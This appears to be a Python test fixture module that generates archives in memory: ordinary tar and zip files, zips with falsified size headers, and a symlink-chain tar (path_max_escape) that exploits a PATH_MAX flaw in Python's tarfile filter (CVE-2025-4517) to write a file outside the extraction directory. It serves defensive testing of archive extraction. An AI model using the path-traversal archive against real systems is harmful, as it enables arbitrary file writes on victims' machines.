"""Archive bytes built in memory for tests: good ones, ones that try to escape, and bombs."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile


def tar(
    files: dict[str, bytes], *, mode: str = "w:gz", symlinks: dict[str, str] | None = None
) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for link, target in (symlinks or {}).items():
            info = tarfile.TarInfo(link)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zip_(files: dict[str, bytes], *, compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = compression
            archive.writestr(info, data)
    return out.getvalue()


def with_lying_sizes(data: bytes, *, claimed: int) -> bytes:
    """The zip with every member's uncompressed size rewritten to `claimed`, in both the local
    headers and the central directory (zipfile always writes the true size)."""
    raw = bytearray(data)
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = raw.find(signature)
        while at != -1:
            struct.pack_into("<I", raw, at + size_at, claimed)
            at = raw.find(signature, at + 4)
    return bytes(raw)


def path_max_escape(*, outside: str, payload: bytes = b"pwned") -> bytes:
    """A tar that writes `../<outside>/pwned` through a chain of symlinks whose real path exceeds
    PATH_MAX: os.path.realpath then stops resolving, so Python's `data` filter (before the
    CVE-2025-4517 fix) believes the link stays inside. Unpacked where `..` is the parent of the
    destination's staging dir, the file lands in that parent's `<outside>` directory."""
    component = "d" * 247  # 16 of these nest past PATH_MAX (4096) with a link name on top
    steps = "abcdefghijklmnop"
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:

        def add(name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = link
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data else None)

        path = ""
        for step in steps:  # <step> -> the long directory beside it, nested 16 deep
            add(f"{path}{component}", tarfile.DIRTYPE)
            add(f"{path}{step}", tarfile.SYMTYPE, link=component)
            path += component + "/"
        chain = "/".join(steps) + "/" + "l" * 254  # resolves through all 16 links
        add(chain, tarfile.SYMTYPE, link="../" * len(steps))  # back up to the root
        add("escape", tarfile.SYMTYPE, link=f"{chain}/../{outside}")
        add("escape/pwned", tarfile.REGTYPE, data=payload)
    return out.getvalue()
